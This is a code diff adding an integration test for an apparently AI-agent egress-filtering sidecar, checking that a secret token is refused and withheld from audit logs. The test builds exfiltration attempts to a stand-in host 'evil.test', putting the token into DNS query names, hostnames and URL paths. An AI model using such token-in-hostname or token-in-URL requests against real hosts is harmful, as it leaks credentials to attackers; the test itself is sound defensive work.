@@ -14,6 +14,7 @@ import zstandard
 
 from bot_bottle.pipelock.stream import BLOCK, HOLD
 from bot_bottle.secret import Secret
+from bot_bottle.sidecar.config import Pin
 from tests.integration.egress_lab import (
     TOKEN,
     InProcess,
@@ -225,6 +226,47 @@ def test_a_credential_in_a_header_that_never_leaves_is_told_and_stops_nothing(be
         assert _sent(bench, request, HOST)[1]["decision"] == ""
     assert len(bench.sidecar.records("stripped")) == told
     assert KEY not in bench.sidecar.audit_file.read_text()
+
+
+@pytest.mark.parametrize("loaded", [False, True], ids=["from-the-first-packet", "once-loaded"])
+def test_what_is_refused_by_its_name_alone_is_on_record_without_a_value(tmp_path: Path, loaded: bool) -> None:
+    """D1, D2: nothing of what judges content is loaded before the first request that may go on."""
+    host = f"{TOKEN}.evil.test"
+    settings = config(tmp_path, [route(HOST, auth=True)], pins={HOST: Pin(address="127.0.0.1", port=9)})
+    with InProcess(tmp_path, settings) as egress:
+        if loaded:
+            with egress.tunnel(HOST) as stream:
+                assert stream.get(HOST).reason == "upstream_unreachable"
+        with egress.plain("dns-tcp") as stream:
+            question = b"".join(bytes([len(part)]) + part for part in host.encode().split(b"."))
+            query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + question + b"\0" + struct.pack("!2H", 1, 1)
+            stream.send(struct.pack("!H", len(query)) + query).exactly(2)
+        refused, answer = egress.connect(f"{host}:25")
+        refused.close()
+        assert answer.reason == "host_not_allowed"
+        broken, answer = egress.connect(f"{host}:443")
+        assert answer.status == 200
+        broken.send(b"no TLS at all\r\n\r\n").rest()
+        broken.close()
+        asked = {
+            "http": (host, "/"),
+            "proxy": ("evil.test", f"http://{host}/"),
+        }
+        for role, (name, target) in asked.items():
+            with egress.plain(role) as stream:
+                assert stream.get(name, target).reason == "own_secret"
+        for target in (f"http://evil.test/a/{TOKEN}", f"http://_egress.local/{TOKEN}"):
+            with egress.plain("proxy") as stream:
+                assert stream.get(target.split("/")[2], target).reason in {"host_not_allowed", "not_found"}
+        with egress.plain("http") as stream:
+            assert stream.get(f"{TOKEN}.test", "/").reason == "own_secret", "not a label, the name itself"
+        wait_until(lambda: bool(egress.records("tls_failed")), "the failed handshake is on record")
+        assert [record["name"] for record in egress.records("dns")] == ["(withheld)"]
+        hosts = [record["host"] for record in egress.records() if record["decision"] == "deny"]
+        assert hosts == [
+            "(withheld)", "(withheld)", "evil.test", "evil.test", "_egress.local", "(withheld)",
+        ]  # fmt: skip
+    assert TOKEN not in egress.audit_file.read_text()
 
 
 def test_the_refusal_says_what_and_where_and_never_the_value(bench: Bench) -> None:
